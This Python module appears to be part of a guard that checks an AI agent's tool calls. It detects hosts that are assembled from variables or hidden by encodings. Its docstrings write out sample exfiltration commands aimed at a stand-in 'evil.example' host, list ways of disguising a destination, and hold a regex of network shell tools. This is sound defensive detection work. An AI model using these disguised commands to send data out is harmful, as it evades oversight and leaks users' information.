"""Destinations assembled rather than spelled: what ``information_flow`` reads in code and split fields.

A tool call whose arguments build a host piece by piece (``'ev'+'il.example'``,
``H=evil; T=example; curl "$H.$T/x"``, ``printf '%s.%s' evil example``, a JS
template, ``{"user": "recover", "domain": "acc0unt-help", "tld": "example"}``)
or hide it behind a reversible encoding (ROT13, a reversed string, base32,
``\\u0065`` or ``\\x2e`` escapes, percent-encoding) names no link or address a
pattern finds.  Here an argument is reduced to its *skeleton* (case-folded letters
and digits only, escapes resolved) and each domain untrusted output named is
looked for in it, as written and read under those encodings; also, with the
words of the argument, whether every label of the domain (every part of a
hyphenated one) is a run of whole words of it, in order (the pieces may be far
apart: variables).  Only domains of at least ``MIN_SKELETON`` letters and digits
are looked for, and by words only with labels of three or more (``ev.il``,
``pandas.io`` are too short to tell from text).

Pure functions over text; the record's domains come from ``Provenance.untrusted_domains``.
"""

from __future__ import annotations

import base64
import binascii
import codecs
import itertools
import re
from collections.abc import Iterable
from urllib.parse import unquote

from goalrail.policies.provenance_disguises import is_bare_domain
from goalrail.policies.provenance_values import kind_of, nfkc

MIN_SKELETON = 8
_NOT_ALNUM = re.compile(r"[\W_]+")
#: ``\u0065``, ``\x65``, ``\U00000065``, ``\u{65}`` (JS): escapes code reads as the character.
_ESCAPE = re.compile(r"\\(?:u\{([0-9A-Fa-f]{1,6})\}|u([0-9A-Fa-f]{4})|x([0-9A-Fa-f]{2})|U([0-9A-Fa-f]{8}))")
_BASE32 = re.compile(r"(?<![A-Za-z0-9])[A-Z2-7]{16,}={0,6}(?![A-Za-z0-9])")
_PERCENT = re.compile(r"%[0-9A-Fa-f]{2}")
_PIECES = re.compile(r"[.\-]")  # (the parts of a label are assembled alike: ``$D-$P.example``)


def skeleton(text: str) -> str:
    """``text`` case-folded with everything but letters and digits dropped (``Ev.IL`` is ``evil``)."""
    return _NOT_ALNUM.sub("", nfkc(text).casefold())


def readings(text: str) -> list[str]:
    """The skeletons ``text`` may spell a host in: as written (escapes and percent-encoding resolved),
    ROT13, reversed, and each base32 run decoded."""
    skel = skeleton(plain(text))
    out = [skel, codecs.encode(skel, "rot13"), skel[::-1]]
    for m in _BASE32.finditer(text) if len(text) >= 16 else ():
        raw = _b32(m.group(0).rstrip("="))
        if raw is not None and raw.isascii():
            out.append(skeleton(raw.decode("ascii")))
    return out


def plain(text: str) -> str:
    """``text`` with its escapes (``\\u0065``, ``\\x2e``) and percent-encoding resolved."""
    text = _ESCAPE.sub(_unescape, text) if "\\" in text else text
    return unquote(text) if "%" in text and _PERCENT.search(text) else text


def words_of(text: str) -> list[str]:
    """The words (runs of letters and digits) of ``plain(text)``, case-folded."""
    return [w for w in _NOT_ALNUM.split(nfkc(plain(text)).casefold()) if w]


def found_in(skeletons: list[str], domains: Iterable[str], words: list[str] | None = None) -> list[str]:
    """The domains (each once, in order) whose skeleton one of ``skeletons`` holds; with ``words`` (of one
    argument), also those whose every label is whole words of it, labels in order, apart
    (``H=evil; T=example; "$H.$T"``, ``'coll' + 'ector'``; ``compute`` holds no label ``com``)."""
    out: list[str] = []
    joined, starts = ("".join(words), set(itertools.accumulate(map(len, words), initial=0))) if words else ("", set())
    for domain in domains:
        skel = skeleton(domain)
        if len(skel) < MIN_SKELETON or domain in out:
            continue
        if any(skel in s for s in skeletons) or (words and _in_order(domain, joined, starts)):
            out.append(domain)
    return out


def _in_order(domain: str, joined: str, starts: set[int]) -> bool:
    """Whether each label (each part of a hyphenated one) of ``domain`` is a run of whole words of ``joined``,
    in order (``starts``: where its words start)."""
    at = 0
    for label in _PIECES.split(domain):
        piece = skeleton(label)
        if len(piece) < 3:
            return False  # (``pandas.io``: ``import pandas, io`` is no host)
        at = joined.find(piece, at)
        while at >= 0 and not (at in starts and at + len(piece) in starts):
            at = joined.find(piece, at + 1)
        if at < 0:
            return False
        at += len(piece)
    return True


def _unescape(m: re.Match[str]) -> str:
    code = int(next(g for g in m.groups() if g is not None), 16)
    return chr(code) if code <= 0x10FFFF else ""


def _b32(run: str) -> bytes | None:
    try:
        return base64.b32decode(run + "=" * (-len(run) % 8))
    except (binascii.Error, ValueError):
        return None


#: A command that sends to the host it is given (DNS look-ups included: ``nslookup <data>.evil.example``).
_NET_COMMAND = re.compile(
    r"(?<![\w\-.])(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig|host|ping|ssh|scp|sftp|rsync|telnet|ftp|http|git)"
    r"(?![\w\-.])((?:\$\([^)\n]*\)|[^\n;|&])*)"
)
_ASSIGNED = re.compile(r"(?<![\w$])([A-Za-z_]\w*)=(\"[^\"\n$`]*\"|'[^'\n]*'|[^\s;|&$`'\"()]*)(?![^\s;|&])")
_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
#: A word that is a substitution up to its path or port: the whole host (``curl -d @f $H/in``).
_RUN_TIME = re.compile(r"(?:\$\w+|\$\{[^}\s]*\}|\$\([^)]*\))(?:[/:]|$)")
#: A shell substitution next to a dot: ``$A.``, ``${B}.``, ``$(cmd).``, ``.$B``.
_SUBSTITUTED = re.compile(r"(?:\$\w+|\$\{[^}\s]*\}|\))\.|\.\$[{(\w]")


def filled(text: str) -> str:
    """Shell code with the variables it assigns a plain value filled in (``A=api; curl https://$A.corp.example``
    reads ``https://api.corp.example``): the links it names are then checked as the shell will send them."""
    if "=" not in text or not _VARIABLE.search(text):
        return text
    values = {m.group(1): m.group(2).strip("\"'") for m in _ASSIGNED.finditer(text)}

    def fill(m: re.Match[str]) -> str:
        return values.get(m.group(1) or m.group(2), m.group(0))

    return _VARIABLE.sub(fill, text) if values else text


def templated_hosts(text: str) -> list[str]:
    """Hosts a network command in shell code is given as shell substitutions joined by dots
    (``A=notes; B=example; curl -d @f $A.$B/in``, ``nslookup $(base64 f).$Z``): a destination that only
    exists at run time (read :func:`filled` text: what still holds a ``$`` is only known then).  Only a
    command that names no literal link or domain of its own counts (``curl -o $NAME.tar.gz https://…``
    saves to a file)."""
    if "$" not in text:
        return []
    out: list[str] = []
    for m in _NET_COMMAND.finditer(text):
        words = m.group(1).split()
        if any("://" in w or ("$" not in w and ("@" in w[1:] or is_bare_domain(w.strip("\"'")))) for w in words):
            continue
        whole = m.group(0)[:3] != "git"  # (``git add $FILE`` names a file: only dotted hosts count there)
        for w in (w.strip("\"'") for w in words if w[:1] not in "-@"):
            if _SUBSTITUTED.search(w) or (whole and _RUN_TIME.match(w)):
                out.append(w)
    return out


#: Calls in code that open a connection to the host they are given (Python, JavaScript).
_CONNECTS = re.compile(
    r"\b(?:urlopen|urlretrieve|create_connection|gethostbyname|getaddrinfo|HTTPS?Connection|SMTP(?:_SSL)?|FTP|"
    r"fetch|XMLHttpRequest|WebSocket|sendto|(?:requests|httpx|aiohttp|session)\.(?:get|post|put|patch|"
    r"delete|request|head|stream))\s*\("
)


def connects(text: str) -> str | None:
    """The first call in code that connects to a host (``socket.create_connection(``, ``requests.post(``)."""
    m = _CONNECTS.search(text) if "(" in text else None
    return m.group(0).rstrip("( ") if m else None


#: Argument names that hold a number to call or text (a date under another name is no phone number).
_PHONE_KEY = re.compile(r"phone|mobile|sms|whatsapp|fax|cell|msisdn|(?:^|_)tel(?:$|_)", re.IGNORECASE)


#: An international number dialled with ``00`` for the ``+`` (``0044 7700 900777``): a country code, then a gap.
_INTERNATIONAL = re.compile(r"\s*00[1-9]\d{0,2}[ \-./]")


def dialled(key: str, text: str) -> bool:
    """Whether an undeclared argument is a phone number: all of it, international (``+``, ``00`` and a
    country code) or under a phone's name."""
    if _PHONE_KEY.search(key) is None and not (text.lstrip()[:1] == "+" or _abroad(text)):
        return False
    return kind_of(text) == "phone"


def _abroad(text: str) -> bool:
    """``00``, a country code and a national number (eleven digits or more: ``0012 3456`` is a reference)."""
    return _INTERNATIONAL.match(text) is not None and sum(c.isdigit() for c in text) >= 11
